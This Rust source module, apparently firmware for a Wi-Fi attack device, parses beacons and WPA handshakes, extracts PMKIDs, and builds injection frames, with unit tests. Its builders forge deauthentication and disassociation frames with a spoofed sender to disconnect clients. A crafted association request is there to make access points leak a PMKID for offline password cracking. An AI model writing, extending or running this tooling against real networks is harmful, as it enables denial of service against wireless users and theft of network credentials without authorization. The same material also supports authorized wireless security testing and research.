//! 802.11 frame dissection and injection.
//!
//! Dissection is split between the `ieee80211` crate (management-frame
//! classification and SSID extraction) and raw tag walks for the parts
//! the capture formats need at exact offsets: the RSN IE, the LLC/SNAP
//! prefix, and the EAPOL-Key layout. All bounds checks work from the
//! length carried by the driver, never string walks.
//!
//! Safe to call from the radio-callback context: no allocation, no
//! logging, no locking.

use heapless::String;
use ieee80211::match_frames;
use ieee80211::mgmt_frame::{BeaconFrame, ProbeResponseFrame};

/// LLC/SNAP prefix that precedes EAPOL in a data frame payload.
pub const LLC_SNAP_EAPOL: [u8; 8] = [0xAA, 0xAA, 0x03, 0x00, 0x00, 0x00, 0x88, 0x8E];

/// Management-frame subtypes the engines care about.
pub const SUBTYPE_ASSOC_REQ: u8 = 0x00;
pub const SUBTYPE_PROBE_RESP: u8 = 0x05;
pub const SUBTYPE_BEACON: u8 = 0x08;
pub const SUBTYPE_DISASSOC: u8 = 0x0A;
pub const SUBTYPE_DEAUTH: u8 = 0x0C;

/// EAPOL-Key layout offsets (from the start of the EAPOL payload).
pub const EAPOL_KEY_INFO_OFFSET: usize = 5;
pub const EAPOL_ANONCE_OFFSET: usize = 17;
pub const EAPOL_MIC_OFFSET: usize = 81;
pub const EAPOL_KEY_DATA_LEN_OFFSET: usize = 97;
pub const EAPOL_KEY_DATA_OFFSET: usize = 99;
/// Minimum EAPOL length for a key frame.
pub const EAPOL_KEY_MIN_LEN: usize = 99;

/// PMKID KDE prefix: vendor-specific KDE, OUI 00:0F:AC, data type 4.
pub const PMKID_KDE_PREFIX: [u8; 6] = [0xDD, 0x14, 0x00, 0x0F, 0xAC, 0x04];

pub type Ssid = String<32>;

/// Authentication mode derived from beacon/probe-response IEs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum AuthMode {
    #[default]
    Open,
    Wep,
    /// WPA1 (vendor IE, TKIP era).
    WpaPsk,
    Wpa2Psk,
    /// Transition mode: both PSK and SAE advertised.
    Wpa2Wpa3Psk,
    Wpa3Psk,
}

impl AuthMode {
    pub fn as_str(&self) -> &'static str {
        match self {
            AuthMode::Open => "open",
            AuthMode::Wep => "wep",
            AuthMode::WpaPsk => "wpa",
            AuthMode::Wpa2Psk => "wpa2",
            AuthMode::Wpa2Wpa3Psk => "wpa2/3",
            AuthMode::Wpa3Psk => "wpa3",
        }
    }
}

/// Parsed beacon or probe response.
#[derive(Debug, Clone)]
pub struct BeaconInfo {
    pub bssid: [u8; 6],
    pub ssid: Ssid,
    /// True when the SSID IE is absent or zero-filled.
    pub hidden: bool,
    /// DS Parameter Set channel, when present.
    pub channel: Option<u8>,
    pub auth: AuthMode,
    /// RSN capabilities MFPR bit — deauthentication is pointless.
    pub pmf_required: bool,
    /// Beacon interval in time units from the fixed parameters.
    pub interval_tu: u16,
}

/// Frame subtype from the frame-control field.
#[inline]
pub fn subtype(frame: &[u8]) -> u8 {
    (frame[0] >> 4) & 0x0F
}

/// True when the frame-control type bits say management.
#[inline]
pub fn is_mgmt(frame: &[u8]) -> bool {
    (frame[0] >> 2) & 0x3 == 0
}

/// True when the frame-control type bits say data.
#[inline]
pub fn is_data(frame: &[u8]) -> bool {
    (frame[0] >> 2) & 0x3 == 2
}

/// Parse a beacon (subtype 0x08) or probe response (0x05).
///
/// Classification and SSID run through the `ieee80211` crate; channel,
/// privacy, and RSN come from a raw IE walk because the capture formats
/// and targeting logic need the exact capability bits.
pub fn parse_beacon(frame: &[u8]) -> Option<BeaconInfo> {
    // Header(24) + timestamp(8) + interval(2) + capability(2) plus at
    // least some IE data — a beacon with no IEs at all is malformed
    if frame.len() < 40 || frame.len() > 2346 {
        return None;
    }

    let ssid_str = match_frames! {
        frame,
        beacon = BeaconFrame<'_> => { beacon.body.ssid().unwrap_or("") }
        probe_resp = ProbeResponseFrame<'_> => { probe_resp.body.ssid().unwrap_or("") }
    }
    .ok()?;

    let bssid: [u8; 6] = frame[16..22].try_into().ok()?;
    let interval_tu = u16::from_le_bytes([frame[32], frame[33]]);
    let capability = u16::from_le_bytes([frame[34], frame[35]]);
    let privacy = capability & 0x0010 != 0;

    let mut ssid = Ssid::new();
    let _ = ssid.push_str(ssid_str);
    // Zero-filled SSID IEs decode as NULs; treat them as hidden too
    let hidden = ssid.is_empty() || ssid.as_bytes().iter().all(|&b| b == 0);
    if hidden {
        ssid.clear();
    }

    let mut channel = None;
    let mut rsn: Option<RsnInfo> = None;
    let mut has_wpa1 = false;

    let mut offset = 36usize;
    while offset + 2 <= frame.len() {
        let tag = frame[offset];
        let len = frame[offset + 1] as usize;
        if offset + 2 + len > frame.len() {
            break;
        }
        let body = &frame[offset + 2..offset + 2 + len];
        match tag {
            // DS Parameter Set
            3 if len == 1 => channel = Some(body[0]),
            // RSN
            48 => rsn = parse_rsn(body),
            // Vendor specific: WPA1 is OUI 00:50:F2 type 1
            221 if len >= 4 && body[..4] == [0x00, 0x50, 0xF2, 0x01] => has_wpa1 = true,
            _ => {}
        }
        offset += 2 + len;
    }

    let (auth, pmf_required) = match rsn {
        Some(info) => (info.auth, info.pmf_required),
        None if has_wpa1 => (AuthMode::WpaPsk, false),
        None if privacy => (AuthMode::Wep, false),
        None => (AuthMode::Open, false),
    };

    Some(BeaconInfo {
        bssid,
        ssid,
        hidden,
        channel,
        auth,
        pmf_required,
        interval_tu,
    })
}

struct RsnInfo {
    auth: AuthMode,
    pmf_required: bool,
}

/// Walk the RSN IE body: version, group suite, pairwise list, AKM list,
/// capabilities. Any truncation downgrades to plain WPA2.
fn parse_rsn(body: &[u8]) -> Option<RsnInfo> {
    // version(2) + group(4) + pairwise count(2)
    if body.len() < 8 {
        return None;
    }
    let pairwise_count = u16::from_le_bytes([body[6], body[7]]) as usize;
    let akm_count_off = 8 + pairwise_count * 4;
    if body.len() < akm_count_off + 2 {
        return Some(RsnInfo {
            auth: AuthMode::Wpa2Psk,
            pmf_required: false,
        });
    }
    let akm_count = u16::from_le_bytes([body[akm_count_off], body[akm_count_off + 1]]) as usize;
    let akm_off = akm_count_off + 2;

    let mut has_psk = false;
    let mut has_sae = false;
    for i in 0..akm_count {
        let o = akm_off + i * 4;
        if o + 4 > body.len() {
            break;
        }
        if body[o..o + 3] == [0x00, 0x0F, 0xAC] {
            match body[o + 3] {
                // PSK and PSK-SHA256
                2 | 6 => has_psk = true,
                // SAE
                8 => has_sae = true,
                _ => {}
            }
        }
    }

    let caps_off = akm_off + akm_count * 4;
    let pmf_required = if caps_off + 2 <= body.len() {
        let caps = u16::from_le_bytes([body[caps_off], body[caps_off + 1]]);
        caps & 0x0040 != 0 // MFPR
    } else {
        false
    };

    let auth = match (has_psk, has_sae) {
        (true, true) => AuthMode::Wpa2Wpa3Psk,
        (false, true) => AuthMode::Wpa3Psk,
        _ => AuthMode::Wpa2Psk,
    };
    Some(RsnInfo { auth, pmf_required })
}

// ── Data frame / EAPOL dissection ─────────────────────────────────────

/// The four messages of the WPA key exchange.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum KeyMessage {
    M1,
    M2,
    M3,
    M4,
}

impl KeyMessage {
    /// Slot index 0..=3.
    pub fn index(self) -> usize {
        match self {
            KeyMessage::M1 => 0,
            KeyMessage::M2 => 1,
            KeyMessage::M3 => 2,
            KeyMessage::M4 => 3,
        }
    }

    /// True for AP→station messages.
    pub fn from_ap(self) -> bool {
        matches!(self, KeyMessage::M1 | KeyMessage::M3)
    }
}

/// A located EAPOL-Key frame inside an 802.11 data frame.
#[derive(Debug, Clone, Copy)]
pub struct EapolKey {
    pub message: KeyMessage,
    pub bssid: [u8; 6],
    pub station: [u8; 6],
    /// Byte offset of the EAPOL payload within the frame.
    pub eapol_offset: usize,
    pub eapol_len: usize,
}

/// Transmitter/receiver/BSSID addressing of a data frame.
#[derive(Debug, Clone, Copy)]
pub struct DataAddrs {
    pub src: [u8; 6],
    pub dst: [u8; 6],
    pub bssid: [u8; 6],
}

/// Extract addressing from the To-DS/From-DS bits. WDS (both set) is
/// skipped.
pub fn data_addrs(frame: &[u8]) -> Option<DataAddrs> {
    if frame.len() < 24 {
        return None;
    }
    let to_ds = frame[1] & 0x01 != 0;
    let from_ds = frame[1] & 0x02 != 0;
    let a1: [u8; 6] = frame[4..10].try_into().ok()?;
    let a2: [u8; 6] = frame[10..16].try_into().ok()?;
    let a3: [u8; 6] = frame[16..22].try_into().ok()?;
    match (to_ds, from_ds) {
        // Station → AP
        (true, false) => Some(DataAddrs {
            dst: a1,
            src: a2,
            bssid: a1,
        }),
        // AP → station
        (false, true) => Some(DataAddrs {
            dst: a1,
            src: a2,
            bssid: a2,
        }),
        // IBSS / direct link
        (false, false) => Some(DataAddrs {
            dst: a1,
            src: a2,
            bssid: a3,
        }),
        (true, true) => None,
    }
}

/// Data-frame header length: 24, +2 for QoS, +4 more for QoS+Order (HTC).
pub fn data_header_len(frame: &[u8]) -> usize {
    let qos = subtype(frame) & 0x08 != 0;
    let mut len = 24;
    if qos {
        len += 2;
        if frame[1] & 0x80 != 0 {
            len += 4;
        }
    }
    len
}

/// Locate and classify an EAPOL-Key frame inside a data frame.
///
/// Returns `None` for anything that is not a well-formed key message:
/// wrong LLC/SNAP, non-key EAPOL type, short frames, unclassifiable
/// key_info. Per the error policy, malformed input is discarded here
/// and only counted by the caller.
pub fn parse_eapol_key(frame: &[u8]) -> Option<EapolKey> {
    if frame.len() < 24 || frame.len() > 2346 || !is_data(frame) {
        return None;
    }
    let addrs = data_addrs(frame)?;
    let hdr = data_header_len(frame);
    if hdr + 8 > frame.len() {
        return None;
    }
    if frame[hdr..hdr + 8] != LLC_SNAP_EAPOL {
        return None;
    }

    let eapol_offset = hdr + 8;
    let eapol = &frame[eapol_offset..];
    if eapol.len() < 4 {
        return None;
    }
    // version(1) + type(1) + length(2); type 3 = EAPOL-Key
    if eapol[1] != 3 {
        return None;
    }
    if eapol.len() < EAPOL_KEY_MIN_LEN {
        return None;
    }

    let key_info = u16::from_be_bytes([eapol[5], eapol[6]]);
    let install = key_info >> 6 & 1 != 0;
    let key_ack = key_info >> 7 & 1 != 0;
    let key_mic = key_info >> 8 & 1 != 0;
    let secure = key_info >> 9 & 1 != 0;

    let message = match (key_ack, key_mic, install, secure) {
        (true, false, _, _) => KeyMessage::M1,
        (false, true, _, false) => KeyMessage::M2,
        (true, true, true, _) => KeyMessage::M3,
        (false, true, _, true) => KeyMessage::M4,
        _ => return None,
    };

    // M1/M3 travel AP→station, M2/M4 station→AP
    let (bssid, station) = if message.from_ap() {
        (addrs.src, addrs.dst)
    } else {
        (addrs.dst, addrs.src)
    };

    Some(EapolKey {
        message,
        bssid,
        station,
        eapol_offset,
        eapol_len: eapol.len(),
    })
}

/// PMKID KDE scan result.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PmkidKde {
    Present([u8; 16]),
    /// All-zero PMKID — invalid but terminal: recorded, never written.
    AllZero,
}

/// Scan an M1's key-data region for the PMKID KDE.
///
/// `eapol` is the full EAPOL payload. Only RSN descriptors (0x02) carry
/// a usable PMKID.
pub fn extract_pmkid(eapol: &[u8]) -> Option<PmkidKde> {
    if eapol.len() < EAPOL_KEY_DATA_OFFSET + 22 {
        return None;
    }
    if eapol[4] != 0x02 {
        return None;
    }
    let key_data_len = u16::from_be_bytes([
        eapol[EAPOL_KEY_DATA_LEN_OFFSET],
        eapol[EAPOL_KEY_DATA_LEN_OFFSET + 1],
    ]) as usize;
    if key_data_len < 22 || eapol.len() < EAPOL_KEY_DATA_OFFSET + key_data_len {
        return None;
    }
    let key_data = &eapol[EAPOL_KEY_DATA_OFFSET..EAPOL_KEY_DATA_OFFSET + key_data_len];

    let mut i = 0;
    while i + 22 <= key_data.len() {
        if key_data[i..i + 6] == PMKID_KDE_PREFIX {
            let pmkid: [u8; 16] = key_data[i + 6..i + 22].try_into().ok()?;
            if pmkid.iter().all(|&b| b == 0) {
                return Some(PmkidKde::AllZero);
            }
            return Some(PmkidKde::Present(pmkid));
        }
        i += 1;
    }
    None
}

// ── Injection builders ────────────────────────────────────────────────

/// Management-frame header + reason code for deauth/disassoc.
pub const DEAUTH_FRAME_LEN: usize = 26;

/// Reason 7: class-3 frame received from nonassociated station.
pub const REASON_CLASS3_FRAME: u16 = 0x0007;

fn build_mgmt_header(buf: &mut [u8], subtype: u8, dest: &[u8; 6], src: &[u8; 6], bssid: &[u8; 6]) {
    buf[0] = subtype << 4;
    buf[1] = 0x00;
    // Duration
    buf[2] = 0x3A;
    buf[3] = 0x01;
    buf[4..10].copy_from_slice(dest);
    buf[10..16].copy_from_slice(src);
    buf[16..22].copy_from_slice(bssid);
    // Sequence control — driver rewrites it
    buf[22] = 0x00;
    buf[23] = 0x00;
}

/// Deauthentication frame (subtype 0xC0). `src` is the spoofed sender:
/// the BSSID for AP→client, the client for client→AP.
pub fn build_deauth(
    buf: &mut [u8; DEAUTH_FRAME_LEN],
    dest: &[u8; 6],
    src: &[u8; 6],
    bssid: &[u8; 6],
    reason: u16,
) -> usize {
    build_mgmt_header(buf, SUBTYPE_DEAUTH, dest, src, bssid);
    buf[24..26].copy_from_slice(&reason.to_le_bytes());
    DEAUTH_FRAME_LEN
}

/// Disassociation frame (subtype 0xA0).
pub fn build_disassoc(
    buf: &mut [u8; DEAUTH_FRAME_LEN],
    dest: &[u8; 6],
    src: &[u8; 6],
    bssid: &[u8; 6],
    reason: u16,
) -> usize {
    build_mgmt_header(buf, SUBTYPE_DISASSOC, dest, src, bssid);
    buf[24..26].copy_from_slice(&reason.to_le_bytes());
    DEAUTH_FRAME_LEN
}

/// Association request with a matching ESSID element — enough to make
/// an RSN AP answer with M1 (and, when it supports it, a PMKID KDE).
pub fn build_assoc_request(
    buf: &mut [u8; 128],
    bssid: &[u8; 6],
    own_mac: &[u8; 6],
    ssid: &str,
) -> usize {
    build_mgmt_header(buf, SUBTYPE_ASSOC_REQ, bssid, own_mac, bssid);
    let mut n = 24;
    // Capability: ESS + privacy + short preamble
    buf[n..n + 2].copy_from_slice(&[0x31, 0x04]);
    n += 2;
    // Listen interval
    buf[n..n + 2].copy_from_slice(&[0x0A, 0x00]);
    n += 2;
    // SSID IE
    let ssid_bytes = ssid.as_bytes();
    let ssid_len = ssid_bytes.len().min(32);
    buf[n] = 0x00;
    buf[n + 1] = ssid_len as u8;
    buf[n + 2..n + 2 + ssid_len].copy_from_slice(&ssid_bytes[..ssid_len]);
    n += 2 + ssid_len;
    // Supported rates: 1, 2, 5.5, 11 (basic), 18, 24, 36, 54 Mbps
    const RATES: [u8; 10] = [0x01, 0x08, 0x82, 0x84, 0x8B, 0x96, 0x24, 0x30, 0x48, 0x6C];
    buf[n..n + RATES.len()].copy_from_slice(&RATES);
    n += RATES.len();
    // Minimal RSN IE: WPA2-PSK with CCMP, no capabilities
    const RSN: [u8; 22] = [
        0x30, 0x14, 0x01, 0x00, 0x00, 0x0F, 0xAC, 0x04, 0x01, 0x00, 0x00, 0x0F, 0xAC, 0x04, 0x01,
        0x00, 0x00, 0x0F, 0xAC, 0x02, 0x00, 0x00,
    ];
    buf[n..n + RSN.len()].copy_from_slice(&RSN);
    n += RSN.len();
    n
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testkit::{make_beacon, make_eapol_frame, BeaconOpts, EapolOpts};

    const AP: [u8; 6] = [0xAA, 0xBB, 0xCC, 0x11, 0x22, 0x33];
    const STA: [u8; 6] = [0xDD, 0xEE, 0xFF, 0x44, 0x55, 0x66];

    // ── Beacon parsing ──────────────────────────────────────────────

    #[test]
    fn parse_wpa2_beacon() {
        let frame = make_beacon(&BeaconOpts {
            bssid: AP,
            ssid: "testnet",
            channel: Some(6),
            rsn: Some((true, false, false)),
            ..Default::default()
        });
        let info = parse_beacon(&frame).unwrap();
        assert_eq!(info.bssid, AP);
        assert_eq!(info.ssid.as_str(), "testnet");
        assert!(!info.hidden);
        assert_eq!(info.channel, Some(6));
        assert_eq!(info.auth, AuthMode::Wpa2Psk);
        assert!(!info.pmf_required);
        assert_eq!(info.interval_tu, 100);
    }

    #[test]
    fn parse_open_beacon() {
        let frame = make_beacon(&BeaconOpts {
            bssid: AP,
            ssid: "coffee",
            ..Default::default()
        });
        let info = parse_beacon(&frame).unwrap();
        assert_eq!(info.auth, AuthMode::Open);
    }

    #[test]
    fn parse_wep_beacon_from_privacy_bit() {
        let frame = make_beacon(&BeaconOpts {
            bssid: AP,
            ssid: "legacy",
            privacy: true,
            ..Default::default()
        });
        assert_eq!(parse_beacon(&frame).unwrap().auth, AuthMode::Wep);
    }

    #[test]
    fn parse_wpa3_and_transition_modes() {
        let sae = make_beacon(&BeaconOpts {
            bssid: AP,
            ssid: "modern",
            rsn: Some((false, true, true)),
            ..Default::default()
        });
        let info = parse_beacon(&sae).unwrap();
        assert_eq!(info.auth, AuthMode::Wpa3Psk);
        assert!(info.pmf_required);

        let mixed = make_beacon(&BeaconOpts {
            bssid: AP,
            ssid: "both",
            rsn: Some((true, true, false)),
            ..Default::default()
        });
        assert_eq!(parse_beacon(&mixed).unwrap().auth, AuthMode::Wpa2Wpa3Psk);
    }

    #[test]
    fn hidden_ssid_detected() {
        let frame = make_beacon(&BeaconOpts {
            bssid: AP,
            ssid: "",
            ..Default::default()
        });
        let info = parse_beacon(&frame).unwrap();
        assert!(info.hidden);
        assert!(info.ssid.is_empty());
    }

    #[test]
    fn truncated_beacon_rejected() {
        assert!(parse_beacon(&[0x80, 0x00, 0x00]).is_none());
    }

    #[test]
    fn ie_walk_stops_at_bad_length() {
        let mut frame = make_beacon(&BeaconOpts {
            bssid: AP,
            ssid: "x",
            ..Default::default()
        });
        // Append an IE whose claimed length overruns the frame
        frame.push(3).unwrap();
        frame.push(200).unwrap();
        let info = parse_beacon(&frame).unwrap();
        assert_eq!(info.channel, None);
    }

    // ── EAPOL classification ────────────────────────────────────────

    #[test]
    fn classify_all_four_messages() {
        for (msg, expect) in [
            (1u8, KeyMessage::M1),
            (2, KeyMessage::M2),
            (3, KeyMessage::M3),
            (4, KeyMessage::M4),
        ] {
            let frame = make_eapol_frame(&EapolOpts {
                ap: AP,
                station: STA,
                message: msg,
                ..Default::default()
            });
            let key = parse_eapol_key(&frame).unwrap();
            assert_eq!(key.message, expect, "message {}", msg);
            assert_eq!(key.bssid, AP);
            assert_eq!(key.station, STA);
        }
    }

    #[test]
    fn qos_header_shifts_offset() {
        let plain = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        let qos = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            qos: true,
            ..Default::default()
        });
        assert_eq!(parse_eapol_key(&plain).unwrap().eapol_offset, 24 + 8);
        assert_eq!(parse_eapol_key(&qos).unwrap().eapol_offset, 26 + 8);
    }

    #[test]
    fn non_eapol_data_rejected() {
        let mut frame = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        // Corrupt the LLC/SNAP prefix
        frame[24] = 0x00;
        assert!(parse_eapol_key(&frame).is_none());
    }

    #[test]
    fn short_eapol_rejected() {
        let frame = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        // Truncate below the 99-byte key-frame minimum
        assert!(parse_eapol_key(&frame[..24 + 8 + 50]).is_none());
    }

    #[test]
    fn wds_frames_skipped() {
        let mut frame = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        frame[1] |= 0x03; // both DS bits
        assert!(parse_eapol_key(&frame).is_none());
    }

    // ── PMKID extraction ────────────────────────────────────────────

    #[test]
    fn pmkid_found_in_key_data() {
        let pmkid = [0x11u8; 16];
        let frame = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            pmkid: Some(pmkid),
            ..Default::default()
        });
        let key = parse_eapol_key(&frame).unwrap();
        let eapol = &frame[key.eapol_offset..];
        assert_eq!(extract_pmkid(eapol), Some(PmkidKde::Present(pmkid)));
    }

    #[test]
    fn all_zero_pmkid_flagged_terminal() {
        let frame = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            pmkid: Some([0u8; 16]),
            ..Default::default()
        });
        let key = parse_eapol_key(&frame).unwrap();
        assert_eq!(
            extract_pmkid(&frame[key.eapol_offset..]),
            Some(PmkidKde::AllZero)
        );
    }

    #[test]
    fn missing_kde_yields_none() {
        let frame = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            ..Default::default()
        });
        let key = parse_eapol_key(&frame).unwrap();
        assert_eq!(extract_pmkid(&frame[key.eapol_offset..]), None);
    }

    #[test]
    fn wpa1_descriptor_has_no_pmkid() {
        let frame = make_eapol_frame(&EapolOpts {
            ap: AP,
            station: STA,
            message: 1,
            pmkid: Some([0x22; 16]),
            descriptor: 0xFE,
            ..Default::default()
        });
        let key = parse_eapol_key(&frame).unwrap();
        assert_eq!(extract_pmkid(&frame[key.eapol_offset..]), None);
    }

    // ── Injection builders ──────────────────────────────────────────

    #[test]
    fn deauth_layout() {
        let mut buf = [0u8; DEAUTH_FRAME_LEN];
        let len = build_deauth(&mut buf, &STA, &AP, &AP, REASON_CLASS3_FRAME);
        assert_eq!(len, 26);
        assert_eq!(buf[0], 0xC0);
        assert_eq!(&buf[4..10], &STA);
        assert_eq!(&buf[10..16], &AP);
        assert_eq!(&buf[16..22], &AP);
        assert_eq!(u16::from_le_bytes([buf[24], buf[25]]), 7);
    }

    #[test]
    fn disassoc_layout() {
        let mut buf = [0u8; DEAUTH_FRAME_LEN];
        build_disassoc(&mut buf, &STA, &AP, &AP, 8);
        assert_eq!(buf[0], 0xA0);
        assert_eq!(u16::from_le_bytes([buf[24], buf[25]]), 8);
    }

    #[test]
    fn assoc_request_carries_matching_essid() {
        let own = [0x02, 0x00, 0x00, 0x00, 0x00, 0x01];
        let mut buf = [0u8; 128];
        let len = build_assoc_request(&mut buf, &AP, &own, "testnet");
        assert_eq!(buf[0], 0x00);
        assert_eq!(&buf[4..10], &AP);
        assert_eq!(&buf[10..16], &own);
        // SSID IE right after capability + listen interval
        assert_eq!(buf[28], 0x00);
        assert_eq!(buf[29] as usize, 7);
        assert_eq!(&buf[30..37], b"testnet");
        // RSN IE terminates the frame
        assert_eq!(buf[len - 22], 0x30);
    }
}
